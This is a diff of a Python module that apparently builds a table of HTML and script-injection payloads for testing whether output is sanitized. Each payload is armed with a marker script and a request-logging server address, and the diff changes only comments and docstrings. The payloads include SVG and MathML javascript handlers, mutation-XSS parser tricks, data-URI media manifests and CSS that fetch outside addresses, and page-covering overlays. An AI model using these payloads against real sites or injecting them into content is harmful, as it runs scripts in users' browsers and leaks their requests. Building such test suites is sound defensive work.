@@ -1,7 +1,8 @@
-"""Outputs that would run a script, ask a server for something or reach out of their place.
+"""Outputs that would run a script, ask a server for something or leave their place in the page.
 
-Written from the families that the public cheat sheets list: one entry a way in. `RUN` stands for a
-script that leaves a mark in the page, `URL` for an address of a server that writes down who asked.
+They follow the families in public cheat sheets, one entry for each kind of attack. `RUN` stands for
+a script that leaves a mark in the page, `URL` for the address of a server that records its
+requests.
 """
 
 from __future__ import annotations
@@ -28,8 +29,8 @@ class Payload:
     metadata: dict[str, Any]
 
     def armed(self, server: str) -> Payload:
-        """With a script and an address that tell which payload got through."""
-        # not a quote in it, so that it fits wherever a payload puts it
+        """The payloads with a script and an address that tell which payload got through."""
+        # without quotes, so that it fits wherever a payload puts it
         script = f"void(top.pwned_{self.name}=1)"
 
         def arm(value: Any) -> Any:
@@ -46,7 +47,7 @@ class Payload:
 
 
 def _encoded(mime: str, content: Any) -> Any:
-    """Payloads in base64 are written in plain text above."""
+    """Encodes payloads in base64, which are plain text above."""
     if isinstance(content, str) and "base64:" in content:
         head, _, rest = content.partition("base64:")
         inner, _, tail = rest.partition(":end")
@@ -223,7 +224,7 @@ _HTML = {
     "svg_handler": "<svg><handler type='text/javascript' ev:event='load'>RUN</handler></svg>",
     "math_href": "<math href=javascript:RUN><mtext>click</mtext></math>",
     "math_action": "<math><maction actiontype=toggle xlink:href=javascript:RUN>click</maction>",
-    # what a browser may take for a list of further addresses
+    # text that a browser may take for a list of further addresses
     "playlist_audio": "<audio controls preload=auto src='data:audio/mpegurl;base64,base64:"
     "#EXTM3U\n#EXT-X-TARGETDURATION:1\n#EXTINF:1,\nURL.ts\n#EXT-X-ENDLIST\n:end'></audio>",
     "playlist_video": "<video controls preload=auto src='data:video/x-mpegurl;base64,base64:"
@@ -235,7 +236,7 @@ _HTML = {
     "URL.m3u8\n:end'></video>",
     "manifest": "<video controls preload=auto src='data:video/vnd.mpeg.dash.mpd;base64,base64:"
     "<MPD><BaseURL>URL</BaseURL></MPD>:end'></video>",
-    # parsers that disagree, once more
+    # more parsers that disagree
     "mxss_font": '<svg><font><style><a title="</style><img src=x onerror=RUN>">',
     "mxss_font_color": '<svg><font color=x><style><a title="</style><img src=x onerror=RUN>">',
     "mxss_deep": "<div>" * 520 + '<svg><style><a title="</style><img src=x onerror=RUN>">',
@@ -263,7 +264,7 @@ _HTML = {
     "style_attr": "<p title=URL.png style='background:attr(title type(<url>))'>x</p>",
     "style_charset": "<style>@charset 'x';@namespace url(URL);@font-feature-values f{}"
     "@view-transition{navigation:auto}p{color:red}</style>",
-    # the page it stands in
+    # the page around the output
     "cover_svg": "<svg overflow=visible width=1 height=1><rect x=-5000 y=-5000 width=10000 "
     "height=10000 fill=red></rect></svg>",
     "cover_svg_text": "<svg overflow=visible width=1 height=1><text x=-3000 y=0 font-size=9000 "
@@ -422,7 +423,7 @@ _OTHER: dict[str, tuple[dict[str, Any], dict[str, Any]]] = {
 
 
 def _written(text: Any) -> Any:
-    """The tables above say RUN and URL; what could be a word of a payload says so plainly."""
+    """Puts the script and the address in the place of RUN and URL in the tables above."""
     raw = json.dumps(text).replace("RUN", RUN).replace("URL", URL)
     return json.loads(raw)
 
